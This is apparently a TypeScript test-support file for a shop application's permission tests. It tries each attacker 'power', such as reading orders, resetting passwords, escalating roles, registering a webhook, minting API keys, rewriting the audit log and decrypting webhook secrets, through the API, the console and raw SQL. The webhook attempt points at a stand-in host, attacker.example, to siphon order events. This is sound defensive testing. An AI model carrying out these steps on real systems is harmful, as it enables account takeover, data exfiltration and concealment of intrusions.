import { decryptSecret, importSecretsKey } from "../../functions/store/access/keys.ts";
import { trackedForm } from "../console/tracked-form.ts";
import { insertPerson } from "../support/console-visitor.ts";
import type { Answer } from "../support/api.ts";
import type { TestStore } from "../support/store.ts";
import type { Attacker } from "./means.ts";

/** Records that attackers want, and marks by which they are recognised. */
export interface Prey {
  orderId: number;
  /** A customer. */
  userId: number;
  email: string;
  /** Of a coupon. */
  code: string;
  webhookId: number;
  /** A text of the order. */
  mark: string;
  /** The secret of the webhook. */
  secret: string;
}

/** Status and codes of an answer. */
const gist = ({ status, body }: Answer) =>
  `${status} ${
    JSON.stringify(body)
      .match(/"code":"shop_\w+"/g)
      ?.join() ?? ""
  }`;

/** Tries everything for one power; returns whether it worked, by the state of the store where there is one. */
type Attempt = (attacker: Attacker, store: TestStore, prey: Prey) => Promise<boolean>;

const unique = () => crypto.randomUUID();

/** Whether one of the steps changes what a query reads. */
async function changes(
  { sql }: TestStore,
  [query, params]: [string, unknown[]],
  steps: (() => Promise<unknown>)[],
): Promise<boolean> {
  const before = JSON.stringify(await sql(query, params));
  for (const step of steps) {
    await step();
    if (JSON.stringify(await sql(query, params)) !== before) return true;
  }
  return false;
}

/** Sends a form of the console, from a page that has its token. */
const send = async (attacker: Attacker, path: string, fields: Record<string, string>) =>
  (await attacker.guest())?.send(path, fields);

/** Whether the attacker sets the password of a user with the role. */
async function setsPassword(
  attacker: Attacker,
  store: TestStore,
  role: Parameters<typeof insertPerson>[1],
): Promise<boolean> {
  const { id, email } = await insertPerson(store, role);
  return changes(
    store,
    ["select password_hash from users where id = $1", [id]],
    [
      () => attacker.api(2).put(`/customers/${id}`, { customer: { password: unique() } }),
      () => send(attacker, `/console/customers/${id}`, { email, password: unique() }),
      () => attacker.sql("update users set password_hash = $2 where id = $1", [id, unique()]),
    ],
  );
}

/** The powers, by their heading in the table of docs/store-command.md. */
export const POWERS: Record<string, Attempt> = {
  async exists(attacker, store, prey) {
    const [v2, v3] = [attacker.api(2), attacker.api(3)];
    const none = 999999999;
    const asks: [known: () => Promise<Answer>, unknown: () => Promise<Answer>][] = [
      [() => v2.get(`/orders/${prey.orderId}`), () => v2.get(`/orders/${none}`)],
      [
        () => v2.put(`/orders/${prey.orderId}`, { order: {} }),
        () => v2.put(`/orders/${none}`, { order: {} }),
      ],
      [
        () => v2.put(`/customers/${prey.userId}`, { customer: {} }),
        () => v2.put(`/customers/${none}`, { customer: {} }),
      ],
      [() => v2.get(`/customers/email/${prey.email}`), () => v2.get("/customers/email/nobody@example.com")],
      [() => v3.get(`/coupons/code/${prey.code}`), () => v3.get("/coupons/code/none")],
      [
        () => v2.put("/orders/bulk", { orders: [{ id: prey.orderId }] }),
        () => v2.put("/orders/bulk", { orders: [{ id: none }] }),
      ],
    ];
    for (const [known, unknown] of asks) if (gist(await known()) !== gist(await unknown())) return true;
    return POWERS["read"]!(attacker, store, prey);
  },
  async read(attacker, _store, { orderId, mark }) {
    const guest = await attacker.guest();
    const v2 = attacker.api(2);
    const texts = [
      JSON.stringify((await v2.get(`/orders/${orderId}`)).body),
      JSON.stringify((await v2.put(`/orders/${orderId}`, { order: {} })).body),
      JSON.stringify((await v2.put("/orders/bulk", { orders: [{ id: orderId }] })).body),
      (await guest?.get(`/console/orders/${orderId}`))?.text,
      JSON.stringify(await attacker.sql("select billing from orders where id = $1", [orderId])),
      attacker.means.text,
    ];
    return texts.some((text) => text?.includes(mark));
  },
  write(attacker, store, { orderId }) {
    const note = unique();
    return changes(
      store,
      ["select customer_note, status from orders where id = $1", [orderId]],
      [
        () => attacker.api(2).put(`/orders/${orderId}`, { order: { note } }),
        async () => {
          const path = `/console/orders/${orderId}`;
          const guest = await attacker.guest();
          const began = guest ? await trackedForm(guest, path) : {};
          return send(attacker, path, { ...began, customer_note: note });
        },
        () => attacker.sql("update orders set customer_note = $2 where id = $1", [orderId, note]),
      ],
    );
  },
  passwords: (attacker, store) => setsPassword(attacker, store, "customer"),
  staff: (attacker, store) => setsPassword(attacker, store, "shop_manager"),
  async users(attacker, store) {
    const { id } = await insertPerson(store, "customer");
    return changes(
      store,
      ["select id from users where id = $1", [id]],
      [
        () => attacker.api(2).delete(`/customers/${id}`),
        () => attacker.sql("delete from users where id = $1", [id]),
      ],
    );
  },
  webhooks(attacker, store) {
    const delivery_url = `https://attacker.example/${unique()}`;
    const webhook = { topic: "order.created", delivery_url, name: "x" };
    return changes(
      store,
      ["select id from webhooks where delivery_url = $1", [delivery_url]],
      [
        () => attacker.api(3).post("/webhooks", { webhook }),
        () => send(attacker, "/console/webhooks", webhook),
        () =>
          attacker.sql(
            "insert into webhooks (name, topic, delivery_url, secret_ciphertext) select 'x', topic, $1, secret_ciphertext from webhooks limit 1",
            [delivery_url],
          ),
      ],
    );
  },
  async console(attacker) {
    const guest = await attacker.guest();
    return (await guest?.get("/console/orders"))?.status === 200;
  },
  keys(attacker, store) {
    const description = unique();
    return changes(
      store,
      ["select id from api_keys where description = $1", [description]],
      [
        () => send(attacker, "/console/keys", { description, permissions: "read_write" }),
        () =>
          attacker.sql(
            "insert into api_keys (user_id, description, permissions, key_hash, secret_ciphertext, truncated_key) select user_id, $1, 'read_write', $1, secret_ciphertext, 'x' from api_keys limit 1",
            [description],
          ),
      ],
    );
  },
  async roles(attacker, store) {
    const { id } = await insertPerson(store, "customer");
    return changes(
      store,
      ["select role from users where id = $1", [id]],
      [
        () => attacker.api(2).put(`/customers/${id}`, { customer: { role: "administrator" } }),
        () => send(attacker, `/console/customers/${id}/roles`, { role: "subscriber" }),
        () => attacker.sql("update users set role = 'subscriber' where id = $1", [id]),
      ],
    );
  },
  settings(attacker, store) {
    const description = unique();
    return changes(
      store,
      ["select description from settings", []],
      [
        () => send(attacker, "/console/settings", { description, api_enabled: "1" }),
        () => attacker.sql("update settings set description = $1", [description]),
      ],
    );
  },
  async audit(attacker) {
    const guest = await attacker.guest();
    const seen = await guest?.get("/console/audit");
    const rows = await attacker.sql("select actor from audit_log limit 1");
    return (
      seen?.status === 200 ||
      rows !== undefined ||
      (attacker.means.text?.includes("deleted by an auditor") ?? false)
    );
  },
  async rewrite(attacker, store) {
    return changes(
      store,
      ["select actor, at from audit_log where kind = 'mark'", []],
      [
        () => attacker.sql("update audit_log set actor = $1 where kind = 'mark'", [unique()]),
        () =>
          attacker.sql(
            "insert into audit_log (at, actor, action, kind, changes) values ('2000-01-01', $1, 'changed', 'mark', '{}')",
            [unique()],
          ),
      ],
    );
  },
  async secrets(attacker, store, { webhookId, secret }) {
    const guest = await attacker.guest();
    const texts = [
      JSON.stringify((await attacker.api(3).get(`/webhooks/${webhookId}`)).body),
      (await guest?.get(`/console/webhooks/${webhookId}`))?.html,
      attacker.means.text,
    ];
    const { secretsKey, text = "" } = attacker.means;
    if (secretsKey) {
      const [row] = await store.sql<{ sealed: string }>(
        "select secret_ciphertext as sealed from webhooks where id = $1",
        [webhookId],
      );
      const holds =
        text.includes(row!.sealed) ||
        (await attacker.sql("select secret_ciphertext from webhooks")) !== undefined;
      if (holds) texts.push(await decryptSecret(await importSecretsKey(secretsKey), row!.sealed));
    }
    return texts.some((one) => one?.includes(secret));
  },
};
